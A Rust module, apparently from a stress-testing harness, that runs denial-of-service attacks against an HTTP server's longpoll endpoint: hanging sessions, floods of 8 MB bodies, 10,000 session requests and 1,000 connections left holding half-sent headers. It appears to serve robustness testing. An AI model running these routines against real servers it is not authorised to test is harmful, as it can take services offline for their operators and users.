//! Attacks by longpoll, and by requests that do not reach a socket.

use std::{collections::BTreeMap, io, time::Duration};

use super::{Attacker, Open, Sent, Target};

/// The default limit of a body.
const LARGEST: usize = 8_000_000;

/// The head of a request with messages.
fn post(target: &Target, token: &str, length: usize) -> String {
    let Target { address, raw, .. } = target;
    format!(
        "POST {raw}/longpoll?token={token} HTTP/1.1\r\nhost: {address}\r\ncontent-length: {length}\r\n\r\n"
    )
}

fn poll(target: &Target, token: &str) -> String {
    let Target { address, raw, .. } = target;
    format!("GET {raw}/longpoll?token={token} HTTP/1.1\r\nhost: {address}\r\n\r\n")
}

/// Opens a session whose callback hangs: its token.
pub(super) async fn hanging(target: &Target) -> io::Result<String> {
    let mut attacker = Attacker::open(target.address).await?;
    let mut answer = attacker.ask(poll(target, "").as_bytes()).await?;
    while !answer.ends_with('}') {
        answer.push_str(&attacker.answer().await?);
    }
    let (_, token) = answer
        .split_once("\"token\":\"")
        .ok_or_else(|| io::Error::other("no session"))?;
    let token = token.split('"').next().unwrap_or_default().to_owned();
    attacker
        .send(format!("{}hang", post(target, &token, 4)).as_bytes())
        .await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    Ok(token)
}

pub(super) async fn bodies(target: &Target) -> io::Result<Open> {
    let token = hanging(target).await?;
    let (mut attackers, mut sent) = (Vec::new(), Sent::All);
    for _ in 0..20 {
        let mut attacker = Attacker::open(target.address).await?;
        attacker
            .send(post(target, &token, LARGEST).as_bytes())
            .await;
        sent = attacker.send_letters(LARGEST).await;
        attackers.push(attacker);
    }
    Ok(Open::after(sent, attackers))
}

pub(super) async fn bodies_left_behind(target: &Target) -> io::Result<Open> {
    let token = hanging(target).await?;
    let mut sent = Sent::All;
    for _ in 0..20 {
        let mut attacker = Attacker::open(target.address).await?;
        attacker
            .send(post(target, &token, LARGEST).as_bytes())
            .await;
        sent = attacker.send_letters(LARGEST).await;
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(Open::after(sent, Vec::new()))
}

pub(super) async fn sessions(target: &Target) -> io::Result<Open> {
    let (mut attacker, mut answers) = (
        Attacker::open(target.address).await?,
        BTreeMap::<String, u32>::new(),
    );
    for _ in 0..10_000 {
        let Ok(answer) = attacker.ask(poll(target, "").as_bytes()).await else {
            attacker = Attacker::open(target.address).await?;
            continue;
        };
        let status = answer.split(' ').nth(1).unwrap_or_default().to_owned();
        *answers.entry(status).or_default() += 1;
        if answer.contains("connection: close") {
            attacker = Attacker::open(target.address).await?;
        }
    }
    let told: Vec<_> = answers
        .iter()
        .map(|(status, count)| format!("{count} times {status}"))
        .collect();
    Ok(Open {
        verdict: told.join(", "),
        attackers: vec![attacker],
    })
}

pub(super) async fn half_heads(target: &Target) -> io::Result<Open> {
    let head = format!(
        "GET / HTTP/1.1\r\nhost: {}\r\nx: {}",
        target.address,
        "y".repeat(60_000)
    );
    let (mut attackers, mut sent) = (Vec::new(), Sent::All);
    for _ in 0..1_000 {
        let mut attacker = Attacker::open(target.address).await?;
        sent = attacker.send(head.as_bytes()).await;
        attackers.push(attacker);
    }
    Ok(Open::after(sent, attackers))
}
